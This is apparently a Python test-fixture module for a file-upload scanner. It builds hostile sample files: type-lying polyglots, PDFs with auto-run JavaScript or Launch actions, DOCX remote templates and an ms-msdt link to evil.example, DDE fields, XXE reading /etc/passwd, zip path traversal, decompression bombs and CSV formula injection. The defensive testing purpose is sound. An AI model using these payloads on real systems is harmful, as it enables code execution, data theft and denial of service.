"""Files for download that carry a program, lie about their type or unpack without end."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

from PIL import Image

from tests.feature.hostile.contribution import Contribution, Contributions
from tests.feature.hostile.file_cases import TYPES, docx, huge_png, packed, packed_objects, pdf
from tests.kinds.tiny_office import PDF, picture

_SCRIPT = b"<script>alert(1)</script>"
_EXTERNAL = (
    b'<Relationships><Relationship Type="x/%s" Target="%s" TargetMode="External"/></Relationships>'
)
_XXE = b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>'
_DTD = b'<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w/>'
_LAUGHS = (
    b"<!DOCTYPE w [<!ENTITY a 'ha'>"
    + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b"]><w>&m;</w>"
)


def _picture(kind: str, **more: object) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "teal").save(buffer, kind, **more)
    return buffer.getvalue()


def _linked(relations: bytes) -> bytes:
    """A letter with these relationships."""
    return docx({"word/_rels/document.xml.rels": relations})


def _xlsx(more: Mapping[str, bytes]) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<x/>", **more})


def _pptx(more: Mapping[str, bytes]) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<p/>", **more})


def _odt(content: bytes = b"<x/>", **more: bytes) -> bytes:
    return packed({
        "mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content,
        **{name.replace("__", "/"): data for name, data in more.items()},
    })  # fmt: skip


def _object(body: bytes) -> bytes:
    return pdf(b"3 0 obj<<" + body + b">>endobj")


def _locked(data: bytes) -> bytes:
    """An archive that says that all its entries are locked."""
    return data.replace(b"PK\x03\x04\x14\x00\x00", b"PK\x03\x04\x14\x00\x01").replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
    )


def _twice() -> bytes:
    """An archive whose one entry is there twice: readers differ in which they open."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", b"<w/>")
        archive.writestr("word/documenX.xml", b"<w><w:instrText>DDEAUTO cmd</w:instrText></w>")
    return buffer.getvalue().replace(b"documenX", b"document")


def _gif() -> bytes:
    buffer = io.BytesIO()
    Image.new("P", (4, 4)).save(buffer, "GIF")
    return buffer.getvalue()


def _webp(width: int, height: int) -> bytes:
    head = b"VP8X" + struct.pack("<I", 10) + bytes(4)
    head += (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return b"RIFF" + struct.pack("<I", len(head) + 4) + b"WEBP" + head


def _jpeg(width: int, height: int) -> bytes:
    data = bytearray(_picture("JPEG"))
    place = data.index(b"\xff\xc0")
    data[place + 5 : place + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _exif(orientation: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010E] = '"><script>alert(1)</script>'
    return _picture("JPEG", exif=exif.tobytes())


_DDE = b"<w><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\x.exe</w:instrText></w>"
_BOMB = zlib.compress(bytes(50_000_000))

_FILES: Mapping[str, tuple[int, str, bytes, str]] = {
    "svg-gzip": (4, "x.svgz", b"\x1f\x8b\x08\x00", "U005"),
    "svg-as-webp": (4, "svg.webp", b"<svg onload=alert(1)/>", "U006"),
    "svg-behind-space": (4, "svg.csv", b"\xef\xbb\xbf \n<svg onload=alert(1)/>", "U006"),
    "xml-as-csv": (4, "xml.csv", b"<?xml version='1.0'?><html xmlns='x'/>", "U006"),
    "gif": (4, "x.gif", _gif(), "U005"),
    "gif-script": (4, "gif.png", b"GIF89a/*" + bytes(8) + b"*/=1;alert(1)", "U006"),
    "jpg-as-png": (4, "jpg.png", _picture("JPEG"), "U006"),
    "bmp-as-jpg": (4, "bmp.jpg", _picture("BMP"), "U006"),
    "tiff-as-jpg": (4, "tiff.jpg", _picture("TIFF"), "U006"),
    "png-and-html": (4, "html.png", picture() + b"<html>" + _SCRIPT, ""),
    "jpg-and-html": (4, "html.jpg", _picture("JPEG") + _SCRIPT, ""),
    "jpg-remark-html": (4, "remark.jpg", _picture("JPEG", comment=_SCRIPT), ""),
    "png-and-zip": (4, "zip.png", picture() + docx(), ""),
    "webp-broken": (4, "broken.webp", b"RIFF\x00\x00\x00\x00WEBPVP8 ", "U006"),
    "pdf-and-html": (4, "html.pdf", b"<html>" + _SCRIPT + b"<!--" + PDF, "U006"),
    "pdf-far-begin": (4, "far.pdf", b" " * 2_000 + PDF, "U006"),
    "pdf-and-mht": (4, "mht.pdf", b"MIME-Version: 1.0\n\n" + PDF, "D121"),
    "pdf-and-script": (4, "js.pdf", b"a='" + PDF + b"';alert(1)", "D121"),
    "html-as-docx": (4, "html.docx", b"<html>" + _SCRIPT, "U006"),
    "rtf-as-docx": (4, "rtf.docx", b"{\\rtf1{\\object\\objocx}}", "U006"),
    "doc-as-docx": (4, "doc.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "U006"),
    "odt-as-docx": (4, "odt.docx", _odt(), "U006"),
    "jar-as-docx": (4, "jar.docx", packed({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), "U006"),
    "elf-as-xlsx": (4, "elf.xlsx", b"\x7fELF" + bytes(300), "U006"),
    "shell-as-csv": (4, "sh.csv", b"#!/bin/sh\nid\n", "U006"),
    "exe-as-csv": (4, "exe.csv", b"MZ\x90\x00" + bytes(300), "U006"),
    "tar": (4, "x.tar.gz", b"\x1f\x8b\x08", "U005"),
    "zip": (4, "x.zip", packed({"a": b"b"}), "U005"),
    "lnk": (4, "x.lnk", b"L\0\0\0", "U005"),
    "url": (4, "x.url", b"[InternetShortcut]\nURL=file://evil.example/x\n", "U005"),
    "hta": (4, "x.hta", _SCRIPT, "U005"),
    "chm": (4, "x.chm", b"ITSF", "U005"),
    "swf": (4, "x.swf", b"FWS\x08", "U005"),
    "eml": (4, "x.eml", b"Content-Type: text/html\n\n" + _SCRIPT, "U005"),
    "ics": (4, "x.ics", b"BEGIN:VCALENDAR\n", "U005"),
    "vcf": (4, "x.vcf", b"BEGIN:VCARD\n", "U005"),
    "xhtml": (4, "x.xhtml", b"<html/>", "U005"),
    "xsl": (4, "x.xsl", b"<x/>", "U005"),
    "docb": (4, "x.dotm", docx(), "U005"),
    "xlsm": (4, "x.xlsm", _xlsx({}), "U005"),
    "pdf-open-action": (5, "open.pdf", _object(b"/OpenAction<</S/JavaScript/JS(x)>>"), "U009"),
    "pdf-additional": (5, "aa.pdf", _object(b"/AA<</O<</S/JavaScript/JS(x)>>>>"), "U009"),
    "pdf-names": (5, "names.pdf", _object(b"/Names<</JavaScript<</Names[(x)4 0 R]>>>>"), "U009"),
    "pdf-launch-spaced": (5, "spaced.pdf", _object(b"/S /Launch /Win<</F(cmd)>>"), "U009"),
    "pdf-launch-coded": (5, "coded.pdf", _object(b"/S/#4caunch"), "U009"),
    "pdf-import": (5, "import.pdf", _object(b"/S/ImportData/F(x)"), "U009"),
    "pdf-rich": (5, "rich.pdf", _object(b"/Subtype/RichMedia"), "U009"),
    "pdf-go-remote": (5, "remote.pdf", _object(b"/S/GoToR/F(\\\\\\\\evil.example\\\\x)"), "U009"),
    "pdf-go-embedded": (5, "embedded.pdf", _object(b"/S/GoToE"), "U009"),
    "pdf-uri-script": (5, "uri.pdf", _object(b"/S/URI/URI(javascript:alert(1))"), "U009"),
    "pdf-uri-open": (
        5,
        "opens.pdf",
        _object(b"/OpenAction<</S/URI/URI(http://evil.example)>>"),
        "U009",
    ),
    "pdf-submit": (5, "submit.pdf", _object(b"/S/SubmitForm/F(http://evil.example)"), "U011"),
    "pdf-embedded-file": (5, "carries.pdf", _object(b"/Type/EmbeddedFile"), "U011"),
    "pdf-xfa": (5, "xfa.pdf", _object(b"/XFA 4 0 R"), "U011"),
    "pdf-packed-launch": (5, "packed-launch.pdf", pdf(packed_objects(b"<</S/Launch>>")), "U009"),
    "pdf-packed-coded": (
        5,
        "packed-coded.pdf",
        pdf(packed_objects(b"<</S/J#61vaScript>>")),
        "U009",
    ),
    "pdf-packed-hex": (
        5,
        "packed-hex.pdf",
        pdf(
            b"7 0 obj<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n"
            + b"<</S/JavaScript>>".hex().encode()
            + b">\nendstream endobj"
        ),
        "U009",
    ),
    "pdf-packed-twice": (
        5,
        "packed-twice.pdf",
        pdf(
            b"7 0 obj<</Type/ObjStm/Filter[/FlateDecode/FlateDecode]>>stream\n"
            + zlib.compress(zlib.compress(b"<</S/JavaScript>>"))
            + b"\nendstream endobj"
        ),
        "U009",
    ),
    "pdf-packed-name": (
        5,
        "packed-name.pdf",
        pdf(
            b"7 0 obj<</Type/Obj#53tm/Filter/FlateDecode>>stream\n"
            + zlib.compress(b"<</S/JavaScript>>")
            + b"\nendstream endobj"
        ),
        "U009",
    ),
    "pdf-packed-far": (
        5,
        "packed-far.pdf",
        pdf(
            b"7 0 obj<</Type/ObjStm/Filter/FlateDecode/X("
            + b" " * 3_000
            + b")>>stream\n"
            + zlib.compress(b"<</S/JavaScript>>")
            + b"\nendstream endobj"
        ),
        "U009",
    ),
    "pdf-remark": (5, "remark.pdf", _object(b"/S/Java%\nScript"), "D121"),
    "pdf-stream-fake": (
        5,
        "fake.pdf",
        pdf(b"(stream\n) 3 0 obj<</S/JavaScript/JS(x)>>endobj (endstream)"),
        "U009",
    ),
    "pdf-stream-no-end": (
        5,
        "no-end.pdf",
        pdf(b"stream\n 3 0 obj<</S/JavaScript/JS(x)>>endobj"),
        "U009",
    ),
    "pdf-objects-bomb": (
        5,
        "objects.pdf",
        pdf(b"7 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + _BOMB + b"\nendstream"),
        "U009",
    ),
    "docx-traverse": (5, "slip.docx", docx({"../../../etc/cron.d/x": b"x"}), "U006"),
    "docx-absolute": (5, "root.docx", docx({"/etc/passwd": b"x"}), "U006"),
    "docx-windows": (5, "windows.docx", docx({"..\\..\\x.bat": b"x"}), "U006"),
    "docx-program": (5, "program.docx", docx({"word/embeddings/x.exe": b"MZ"}), "U009"),
    "docx-script": (5, "script.docx", docx({"word/x.js": b"alert(1)"}), "U009"),
    "docx-html": (5, "chunk.docx", docx({"word/afchunk.html": _SCRIPT}), "U011"),
    "docx-mht": (5, "chunk-mht.docx", docx({"word/afchunk.mht": _SCRIPT}), "U011"),
    "docx-ole": (
        5,
        "ole.docx",
        docx({"word/embeddings/oleObject1.bin": "\x01Ole10Native".encode("utf-16-le")}),
        "U011",
    ),
    "docx-zip": (5, "zip.docx", docx({"word/embeddings/x.zip": b"PK"}), "U011"),
    "docx-remote-picture": (5, "seen.docx", _linked(
        _EXTERNAL % (b"image", b"http://evil.example/p.png")), "U011"),
    "docx-remote-template": (5, "template.docx", _linked(
        _EXTERNAL % (b"attachedTemplate", b"\\\\evil.example\\x.dotm")), "U009"),
    "docx-remote-quotes": (5, "quotes.docx", _linked(
        b"<R><Relationship Type='x/frame' Target='http://evil.example/x'/></R>"), "U009"),
    "docx-remote-spaces": (5, "spaces.docx", _linked(
        b'<R><Relationship\n Type = "x/frame"\n Target = "http://evil.example/x" /></R>'), "U009"),
    "docx-remote-prefix": (5, "prefix.docx", _linked(
        b'<R><r:Relationship Type="x/frame" Target="http://evil.example/x"/></R>'), "U009"),
    "docx-remote-entity": (5, "entity.docx", _linked(
        b'<R><Relationship Type="x/frame" Target="&#104;ttp://evil.example/x"/></R>'), "U009"),
    "docx-remote-declared": (5, "declared.docx", _linked(
        b'<!DOCTYPE R [<!ENTITY h "http:">]><R><Relationship Type="x/frame" Target="&h;//e"/></R>'),
        "U009"),
    "docx-remote-far": (5, "far.docx", _linked(
        b"<R><!--" + b"-" * 1_100_000 + b'--><Relationship Type="x/frame" Target="http://e"/></R>'),
        "U009"),
    "docx-remote-utf-16": (5, "utf-16.docx", _linked(
        '<R><Relationship Type="x/frame" Target="http://evil.example/x"/></R>'.encode("utf-16")),
        "U009"),
    "docx-frame": (5, "frame.docx", _linked(
        _EXTERNAL % (b"frame", b"http://evil.example/x")), "U009"),
    "docx-msdt": (5, "msdt.docx", _linked(
        _EXTERNAL % (b"oleObject", b"mhtml:http://evil.example/x!x")), "U009"),
    "docx-protocol": (5, "protocol.docx", _linked(
        _EXTERNAL % (b"hyperlink", b"ms-msdt:/id PCWDiagnostic")), "U009"),
    "docx-dde": (
        5,
        "dde.docx",
        packed({"[Content_Types].xml": TYPES, "word/document.xml": _DDE}),
        "U009",
    ),
    "docx-xxe": (
        5,
        "xxe.docx",
        packed({"[Content_Types].xml": TYPES, "word/document.xml": _XXE}),
        "D121",
    ),
    "docx-dtd": (
        5,
        "dtd.docx",
        packed({"[Content_Types].xml": TYPES, "word/document.xml": _DTD}),
        "D121",
    ),
    "docx-laughs": (
        5,
        "laughs.docx",
        packed({"[Content_Types].xml": TYPES, "word/document.xml": _LAUGHS}),
        "D121",
    ),
    "docx-twice": (5, "twice.docx", _twice(), "U009"),
    "docx-locked": (5, "locked.docx", _locked(docx()), "U006"),
    "docx-case": (
        5,
        "case.docx",
        packed(
            {
                "[content_types].XML": b"macroEnabled",
                "word/VBAPROJECT.BIN": b"x",
                "[Content_Types].xml": TYPES,
                "word/document.xml": b"<w/>",
            }
        ),
        "U009",
    ),
    "xlsx-macro-sheet": (5, "sheet4.xlsx", _xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), "U009"),
    "xlsx-dde": (
        5,
        "dde.xlsx",
        _xlsx({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}),
        "U009",
    ),
    "xlsx-connection": (5, "connection.xlsx", _xlsx({"xl/connections.xml": b"<x/>"}), "U011"),
    "xlsx-xxe": (5, "xxe.xlsx", _xlsx({"xl/sharedStrings.xml": _XXE}), "D121"),
    "xlsx-laughs": (5, "laughs.xlsx", _xlsx({"xl/worksheets/sheet1.xml": _LAUGHS}), "D121"),
    "xlsx-hidden": (5, "hidden.xlsx", _xlsx({
        "xl/workbook.xml": b'<w><sheet name="a" state="veryHidden"/></w>'}), "U011"),
    "pptx-action": (
        5,
        "action.pptx",
        _pptx({"ppt/slides/slide1.xml": b'<a action="ppaction://program"/>'}),
        "U009",
    ),
    "pptx-ole": (5, "ole.pptx", _pptx({"ppt/vbaProject.bin": b"x"}), "U009"),
    "odt-basic": (5, "basic.odt", _odt(Basic__Standard__x__xml=b"x"), "U009"),
    "odt-script": (5, "script.odt", _odt(Scripts__python__x=b"x"), "U009"),
    "odt-event": (5, "event.odt", _odt(b'<x xlink:href="vnd.sun.star.script:x"/>'), "U009"),
    "odt-xxe": (5, "xxe.odt", _odt(_XXE), "D121"),
    "odt-laughs": (5, "laughs.odt", _odt(_LAUGHS), "D121"),
    "odt-mimetype": (
        5,
        "lies.odt",
        packed({"mimetype": b"application/x-msdownload", "content.xml": b"<x/>"}),
        "U006",
    ),
    "ods-dde": (5, "dde.ods", _odt(b"<table:dde-source/>"), "U009"),
    "png-wide": (5, "wide.png", huge_png(2_000_000, 1), "U009"),
    "png-zero": (5, "zero.png", huge_png(0, 0), "U006"),
    "webp-bomb": (5, "bomb.webp", _webp(16_000, 16_000), "U009"),
    "jpg-bomb": (5, "bomb.jpg", _jpeg(65_000, 65_000), "U009"),
    "jpg-exif": (5, "exif.jpg", _exif(6), ""),
    "jpg-exif-wrong": (5, "exif-wrong.jpg", _exif(60_000), ""),
    "csv-equals": (20, "equals.csv", b"a\n=1+1\n", "U009"),
    "csv-plus": (20, "plus.csv", b"a\n+cmd|' /C calc'!A0\n", "U009"),
    "csv-minus": (20, "minus.csv", b"a\n-SUM(1)*cmd|'x'!A0\n", "U009"),
    "csv-at": (20, "at.csv", b"a\n@SUM(1+1)*cmd|' /C calc'!A0\n", "U009"),
    "csv-tab": (20, "tab.csv", b"a\n\t=1+1\n", "U009"),
    "csv-return": (20, "return.csv", b'a\n"\r=1+1"\n', "U009"),
    "csv-line": (20, "line.csv", b'a\n"\n=1+1"\n', "U009"),
    "csv-wide": (20, "wide.csv", "a\n\uff1d1+1\n".encode(), "U009"),
    "csv-wide-at": (20, "wide-at.csv", "a\n\uff20SUM(1)\n".encode(), "U009"),
    "csv-quote": (20, "quote.csv", b'a\n"=""x"""\n', "U009"),
    "csv-semicolon": (20, "semicolon.csv", b"a;b\n1;=1+1\n", "U009"),
    "csv-tabs": (20, "tabs.csv", b"a\tb\n1\t=1+1\n", "U009"),
    "csv-separator": (20, "separator.csv", b"sep=|\na|b\n1|=1+1\n", "U009"),
    "csv-invisible": (20, "invisible.csv", "a\n\u200b=1+1\n".encode(), "U009"),
    "csv-space": (20, "space.csv", "a\n\u00a0=1+1\n".encode(), "U009"),
    "csv-bom-inside": (20, "bom.csv", "a\n\ufeff=1+1\n".encode(), "U009"),
    "csv-header": (20, "header.csv", b"=1+1,b\n1,2\n", "U009"),
    "csv-broken": (20, "broken.csv", b'a,b\n"x"y,=1+1\n', "U009"),
    "csv-far": (20, "rows.csv", b"a\n" + b"1\n" * 40_000 + b"=1+1\n", "U009"),
    "csv-long": (20, "long.csv", b"a\n" + b"x" * 200_000 + b",=1+1\n", "U009"),
    "csv-script": (20, "script.csv", b"a\n<script>alert(1)</script>\n", ""),
}  # fmt: skip

PACKED: Contributions = {
    name: Contribution(threat, f"content/files/{file}", data, told)
    for name, (threat, file, data, told) in _FILES.items()
}
